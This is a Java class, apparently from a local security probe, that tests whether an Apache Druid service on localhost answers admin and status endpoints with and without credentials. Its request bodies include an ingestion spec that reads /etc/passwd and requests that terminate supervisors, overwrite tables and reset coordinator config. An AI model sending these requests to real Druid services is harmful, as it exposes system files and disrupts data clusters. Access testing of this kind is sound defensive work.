package dev.pgsonde.local.neighbour;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;

/** Asks a service of Druid what it is, what it holds, and to do something; without a login and with one. */
final class HttpAttempts {
    private static final Duration PATIENCE = Duration.ofSeconds(5);
    private static final List<String> READ = List.of(
            "/",
            "/console.html",
            "/unified-console.html",
            "/status",
            "/status/health",
            "/status/properties",
            "/status/selfDiscovered",
            "/proxy/coordinator/status",
            "/druid-ext/basic-security/authentication/db/x/users",
            "/druid/v2",
            "/druid/v2/datasources",
            "/druid/v2/sql/avatica/",
            "/druid/listen/v1/lookups",
            "/druid/broker/v1/loadstatus",
            "/druid/historical/v1/loadstatus",
            "/druid/coordinator/v1/config",
            "/druid/coordinator/v1/metadata/datasources",
            "/druid/coordinator/v1/servers",
            "/druid/coordinator/v1/cluster",
            "/druid/indexer/v1/leader",
            "/druid/indexer/v1/supervisor",
            "/druid/indexer/v1/supervisor/windows",
            "/druid/indexer/v1/tasks",
            "/druid/indexer/v1/workers",
            "/druid/worker/v1/tasks",
            "/druid/worker/v1/task/windows/log",
            "/druid-internal/v1/segments",
            "/druid-internal/v1/httpRemoteTaskRunner/knownTasks");
    /** Reads a file as Druid's user. */
    private static final String INGESTION = """
            {"type": "index_parallel", "spec": {
              "dataSchema": {"dataSource": "neighbour", "timestampSpec": {"column": "t", "missingValue": "2020-01-01"},
                             "dimensionsSpec": {"dimensions": ["line"]}, "granularitySpec": {"rollup": false}},
              "ioConfig": {"type": "index_parallel", "inputFormat": {"type": "regex", "pattern": "(.*)", "columns": ["line"]},
                           "inputSource": {"type": "local", "baseDir": "/etc", "filter": "passwd"}}}}
            """;

    private static final Map<String, String> CHANGE = Map.of(
            "/druid/v2/sql", "{\"query\": \"SELECT TABLE_NAME FROM INFORMATION_SCHEMA.TABLES\"}",
            "/druid/v2/sql/task", "{\"query\": \"REPLACE INTO w OVERWRITE ALL SELECT 1 AS x PARTITIONED BY ALL\"}",
            "/druid/v2/sql/avatica/", "{\"request\": \"openConnection\", \"connectionId\": \"n\", \"info\": {}}",
            "/druid/v2", "{\"queryType\": \"segmentMetadata\", \"dataSource\": \"windows\"}",
            "/druid/indexer/v1/task", INGESTION,
            "/druid/indexer/v1/sampler", INGESTION,
            "/druid/indexer/v1/supervisor/windows/terminate", "{}",
            "/druid/indexer/v1/supervisor/windows/suspend", "{}",
            "/druid/coordinator/v1/config", "{}",
            "/druid/coordinator/v1/rules/windows", "[]");

    private final HttpClient http =
            HttpClient.newBuilder().connectTimeout(PATIENCE).build();
    private final int port;

    private HttpAttempts(int port) {
        this.port = port;
    }

    static List<Outcome> at(int port, String password) {
        HttpAttempts attempts = new HttpAttempts(port);
        List<Outcome> all = new ArrayList<>();
        for (String login :
                List.of("", "Basic " + basic("pgsonde:" + password), "Basic " + basic("pgsonde:"), "Basic")) {
            READ.forEach(path -> all.add(attempts.ask(path, login, "")));
            CHANGE.forEach((path, body) -> all.add(attempts.ask(path, login, body)));
        }
        return all;
    }

    private static String basic(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(UTF_8));
    }

    static boolean isHttp(int port) {
        return !new HttpAttempts(port).ask("/", "", "").answer().startsWith("IOException");
    }

    /** What everybody may know is that a service is alive. */
    private Outcome ask(String path, String login, String body) {
        String what = "http://127.0.0.1:" + port + path + (body.isEmpty() ? "" : " POST")
                + (login.isEmpty() ? "" : " with " + login.length() + " characters of a login");
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .timeout(PATIENCE);
        if (!login.isEmpty()) {
            request.header("Authorization", login);
        }
        if (!body.isEmpty()) {
            request.header("Content-Type", "application/json").POST(BodyPublishers.ofString(body));
        }
        try {
            HttpResponse<String> answer = http.send(request.build(), BodyHandlers.ofString());
            boolean alive =
                    path.equals("/status/health") && answer.body().strip().equals("true");
            String start =
                    answer.body().substring(0, Math.min(200, answer.body().length()));
            return new Outcome(what, answer.statusCode() < 300 && !alive, answer.statusCode() + " " + start);
        } catch (IOException e) {
            return new Outcome(what, false, "IOException: " + e.getMessage());
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            return Outcome.refused(what, e);
        }
    }
}
